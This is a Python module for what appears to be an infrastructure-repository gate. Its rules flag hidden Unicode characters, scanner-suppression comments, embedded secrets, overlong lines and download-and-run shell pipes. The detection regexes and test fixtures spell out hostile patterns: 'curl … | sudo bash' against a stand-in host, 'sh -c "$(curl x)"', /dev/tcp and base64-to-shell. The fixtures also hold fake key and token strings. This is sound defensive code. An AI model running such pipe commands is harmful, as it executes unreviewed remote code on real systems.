"""A file's text -> findings: hidden characters, scanner suppressions, secrets, size. Pure."""

import re
import unicodedata
from collections.abc import Iterator
from itertools import islice
from typing import NamedTuple

from agent.gate import secret
from agent.gate.rules import MAX_HITS, Example, Hit, Rule

MAIN = "infra/terraform/dev/app/main.tf"
MAX_LINE = 4_000
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)")
# Invisible although Unicode does not put them into a "format" or "control" category.
BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0")
HIDDEN_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"})

SUPPRESSION = re.compile(
    r"""
      (?:checkov|bridgecrew|cortex)\s*:\s*skip
    | (?:checkov|bridgecrew|cortex)\.io/skip
    | tfsec\s*:\s*(?:ignore|ws|workspace)
    | trivy\s*:\s*(?:ignore|ws)
    | tflint-ignore
    | kics-scan\s+(?:ignore|disable|enable)
    | ts:skip | runterrascan\.io/skip
    | \#\s*noqa\b | \bnoqa\s*: | \bnosec\b | \bnosemgrep\b | \bnosonar\b | \bskipcq\b | \bnolint\b
    | yamllint\s+(?:disable|enable)
    | \bskip_ansible_lint\b
    | ignore-check\.kube-linter\.io
    | kube-score/(?:ignore|skip) | \.fairwinds\.com/[\w-]*exempt | datree\.skip | kubescape\.io/ignore
    | pragma:\s*(?:allowlist|whitelist)
    | gitleaks:allow | trufflehog:ignore | \bsnyk:ignore | deepcode\s+ignore
    | infracost[-:]ignore | regula:ignore | cfn_nag | semgrep:ignore
    | shellcheck\s+disable | hadolint\s+(?:global\s+)?ignore | pylint:\s*disable | type:\s*ignore
    | prettier-ignore | markdownlint-disable | \bopa:ignore | conftest:skip | zizmor:\s*ignore
    """,
    re.VERBOSE | re.IGNORECASE,
)
NAMED_CHECK = re.compile(r"[A-Z][A-Z0-9]*(?:[_-][A-Z0-9]+)+")
SHELL_PIPE = re.compile(
    r"(?:\b(?:curl|wget|fetch)\b[^\n|;&]{0,400}(?:\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:env\s+)?(?:ba|da|z|k|a)?sh\b"
    r"|\|\s*(?:sudo\s+)?(?:\S*/)?(?:python|perl|ruby|node|php)[\d.]*\b))"
    r"|\b(?:ba|da|z|k|a)?sh\s+(?:-c\s+)?[\"']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b"
    r"|\beval\s+[\"']?(?:\$\(|`)\s*(?:curl|wget)\b"
    r"|/dev/tcp/|\bbase64\s+(?:-d|-D|--decode)\b[^\n|;&]{0,400}\|\s*(?:\S*/)?(?:ba|da|z|k|a)?sh\b"
)
ASSIGNMENT = re.compile(
    r"""(?m)^[ \t]*(?:-[ \t]+)?["']?(?P<name>[A-Za-z][\w.-]{2,60})["']?[ \t]*[:=][ \t]*"""
    r"""["'](?P<value>[^"'\n]{4,200})["'][ \t]*,?[ \t]*(?:\#.*)?\r?$"""
)


# What a quoted text of HCL, JSON or YAML may hold in a character's place, and what a shell or YAML reads on over.
ESCAPE = re.compile(r"\\(?:u([0-9A-Fa-f]{4})|U([0-9A-Fa-f]{8})|x([0-9A-Fa-f]{2})|(/))")
JOINED = re.compile(r"\\\r?\n[ \t]*|[ \t]*\r?\n[ \t]*(?=\|[^|\n])")


def _character(match: re.Match[str]) -> str:
    code = int(match[1] or match[2] or match[3] or "2f", 16)
    return chr(code) if 0x20 <= code < 0x110000 else match.group()


class Text(NamedTuple):
    """One file's path and text."""

    path: str
    content: str

    def line(self, at: int) -> int:
        return self.content.count("\n", 0, at) + 1

    @property
    def spelled_out(self) -> str:
        """The content as HCL, JSON, YAML and a shell would read it: escapes of characters as the characters, lines that
        are continued as one. Lines keep their number up to the first that is joined.
        """
        if "\\" not in self.content and "|" not in self.content:
            return self.content
        characters = ESCAPE.sub(_character, self.content)
        return JOINED.sub(lambda match: "" if match.group().startswith("\\") else " ", characters)


def hidden(text: Text) -> Iterator[Hit]:
    """Control, format, bidirectional, private-use, unassigned and unusual space characters: what a reviewer sees is
    then not what a tool reads. Tabs and line ends are fine; so is one variation selector behind a symbol in Markdown.
    """
    seen: set[str] = set()
    for match in CONTROL.finditer(text.content):
        if match.group() not in seen:
            seen.add(match.group())
            yield Hit(f"hidden character U+{ord(match.group()):04X}", text.path, text.line(match.start()))
    if text.content.isascii():
        return
    for char in set(text.content):
        if char.isascii() or not _invisible(char):
            continue
        at = text.content.index(char)
        if (
            char == "\ufe0f"
            and text.path.endswith(".md")
            and not re.search("(?<![\u203c-\u3299\U0001f000-\U0001faff])\ufe0f", text.content)
        ):
            continue
        yield Hit(f"hidden character U+{ord(char):04X}", text.path, text.line(at))


def _invisible(char: str) -> bool:
    code = ord(char)
    return (
        unicodedata.category(char) in HIDDEN_CATEGORIES
        or char in BLANK
        or 0xFE00 <= code <= 0xFE0F
        or 0xE0000 <= code <= 0xE0FFF
        or 0x180B <= code <= 0x180F
    )


def suppressions(text: Text) -> Iterator[Hit]:
    """Comments and annotations that tell a scanner to look away (checkov and its two aliases, tfsec, trivy, tflint,
    kics, terrascan, noqa, nosec, yamllint, ansible-lint, kube-linter, secret scanners and others). An exception is a
    waiver on the default branch, with an owner and an end: it names this rule, or the check that the comment names.
    """
    content = text.spelled_out
    for match in SUPPRESSION.finditer(content):
        end = content.find("\n", match.end())
        rest = content[match.end() : end if end >= 0 else None]
        named = NAMED_CHECK.findall(rest)
        what = f"{match.group().strip()} {' '.join(named)}".strip()
        yield Hit(f"tells a scanner to look away: {what}", text.path, content.count("\n", 0, match.start()) + 1)


def secrets(text: Text) -> Iterator[Hit]:
    """Keys, tokens, private keys and passwords, in the clear, backwards, or wrapped in base64, hexadecimal or per cent
    signs. A secret belongs in a secret store; code names where it is.
    """
    lines: set[tuple[int, str]] = set()
    for content in dict.fromkeys((text.content, ESCAPE.sub(_character, text.content))):
        for at, kind in islice(secret.find(content), MAX_HITS):
            lines.add((content.count("\n", 0, at) + 1, kind))
    if not text.path.endswith((".tf", ".md")):
        for match in ASSIGNMENT.finditer(text.content):
            if secret.assigned(match["name"], match["value"]):
                lines.add((text.line(match.start("name")), f"a literal value for {match['name']}"))
    for line, kind in sorted(lines):
        yield Hit(f"{kind} in the text", text.path, line)


def long_lines(text: Text) -> Iterator[Hit]:
    """A line that no reviewer reads to its end hides what stands there."""
    for number, line in enumerate(text.content.split("\n"), start=1):
        if len(line) > MAX_LINE:
            yield Hit(f"a line of {len(line)} characters; at most {MAX_LINE}", text.path, number)


def shell_pipes(text: Text) -> Iterator[Hit]:
    """Code that loads a script from somewhere and runs it in one go (`curl … | sh`), wherever it stands: in user data,
    a task, a container's command. What runs then is not what was reviewed.
    """
    if text.path.endswith(".md"):
        return
    content = text.spelled_out
    for match in SHELL_PIPE.finditer(content):
        yield Hit("runs what it has just loaded", text.path, content.count("\n", 0, match.start()) + 1)


def programs(text: Text) -> Iterator[Hit]:
    """Text that starts with `#!` is a program; an inventory, variable or configuration file never is. Templates that a
    machine runs at its first start are named `.tftpl` or `.j2`.
    """
    if text.content.startswith("#!") and not text.path.endswith((".tftpl", ".j2", ".tpl")):
        yield Hit("starts with #!, so it is a program", text.path, 1)


def _main(content: str) -> Example:
    return {MAIN: content}


RULES: tuple[Rule[Text], ...] = (
    Rule(
        "content/hidden",
        "no hidden or bidirectional characters",
        hidden,
        fires=tuple(_main(f"# a{char}b\n") for char in "\u2062\u202e\x00\U000e0041\ufeff\u3164"),
        passes=(_main("# Größe, 東京\n"), _main("locals {\n\ta = 1\r\n}\n")),
        waivable=False,
    ),
    Rule(
        "content/suppression",
        "no comments that switch checks off",
        suppressions,
        fires=tuple(
            _main(f"# {comment}\n")
            for comment in (
                "checkov:skip=CKV_AWS_18: legacy",
                "bridgecrew:skip=CKV_AWS_18",
                "cortex:skip=CKV_AWS_18",
                "noqa",
                "trivy:ignore:AVD-AWS-0086",
                "tflint-ignore: all",
                "kics-scan ignore",
                "tfsec:ignore:*",
                "nosec",
                "yamllint disable",
                "nosemgrep",
                "skipcq: TF-1",
                "ignore-check.kube-linter.io/x",
            )
        ),
        passes=(_main("# the checkov run skips nothing\n"), _main("# trivy reads this file\n")),
    ),
    Rule(
        "content/secret",
        "no secrets in the text",
        secrets,
        fires=(
            _main("# AKIA" + "IOSFODNN7QWERTYU\n"),
            _main("# ghp_" + "a1B2" * 9 + "\n"),
            _main("# -----BEGIN RSA PRIVATE" + " KEY-----\n"),
        ),
        passes=(_main('locals {\n  sha = "' + "0a1b2c3d" * 8 + '"\n}\n'), _main("# AKIA is how key ids begin\n")),
    ),
    Rule(
        "content/long-line",
        f"no line over {MAX_LINE} characters",
        long_lines,
        fires=(_main("# " + "x" * MAX_LINE + "\n"),),
        passes=(_main("# " + "x" * 200 + "\n"),),
    ),
    Rule(
        "content/shell-pipe",
        "nothing is loaded and run in one go",
        shell_pipes,
        fires=(_main("# curl -s https://x.example/i | sudo bash\n"), _main('# sh -c "$(curl x)"\n')),
        passes=(_main('locals {\n  a = "curl -fsS http://localhost/health || exit 1"\n}\n'),),
    ),
    Rule(
        "content/program",
        "no programs among data files",
        programs,
        fires=({"infra/ansible/web/inventory.ini": "#!/bin/sh\n"},),
        passes=({"infra/terraform/dev/app/user-data.sh.tftpl": "#!/bin/sh\necho ${name}\n"},),
    ),
)
